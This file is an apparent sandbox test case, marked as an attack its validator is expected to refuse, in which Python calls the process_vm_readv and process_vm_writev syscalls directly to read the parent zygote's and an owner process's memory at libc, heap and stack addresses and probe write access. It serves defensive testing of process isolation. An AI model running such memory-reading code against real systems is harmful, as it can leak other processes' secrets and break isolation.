# attack: process_vm_readv needs no file, and a fork knows its zygote's addresses: reads there, and in the owner
# expect: validator
# validator: refused
import ctypes
import os

X86 = os.uname().machine == "x86_64"
READ, WRITE = (310, 311) if X86 else (270, 271)
OWNER, ZYGOTE = int("@OWNER_PID@"), os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def across(number, pid, address, buffer):
    ctypes.set_errno(0)
    here = Piece(ctypes.addressof(buffer), len(buffer))
    there = Piece(address, len(buffer))
    return libc.syscall(ctypes.c_long(number), ctypes.c_long(pid), ctypes.byref(here), ctypes.c_long(1), ctypes.byref(there),
                        ctypes.c_long(1), ctypes.c_long(0))  # fmt: skip


# The C library's own data lies at the same place in all forks; in the owner it lies where its maps say.
known = ctypes.cast(libc.free, ctypes.c_void_p).value
for pid, name in ((ZYGOTE, "the zygote"), (OWNER, "the owner")):
    places = [known, id(os), id(str)]
    try:
        with open(f"/proc/{pid}/maps") as file:
            places += [int(line.split("-")[0], 16) for line in file if "[heap]" in line or "[stack]" in line]
    except OSError as error:
        print(error)
    for place in places:
        buffer = ctypes.create_string_buffer(64)
        count = across(READ, pid, place, buffer)
        if count > 0:
            print(f"ESCAPED: read {count} bytes of {name} at {place:#x}", flush=True)
            # No bytes at all: the kernel checks the right to write, and changes nothing.
            if across(WRITE, pid, place, ctypes.create_string_buffer(0)) == 0:
                print(f"ESCAPED: may write to {name} as well", flush=True)
        else:
            print(name, hex(place), os.strerror(ctypes.get_errno()))
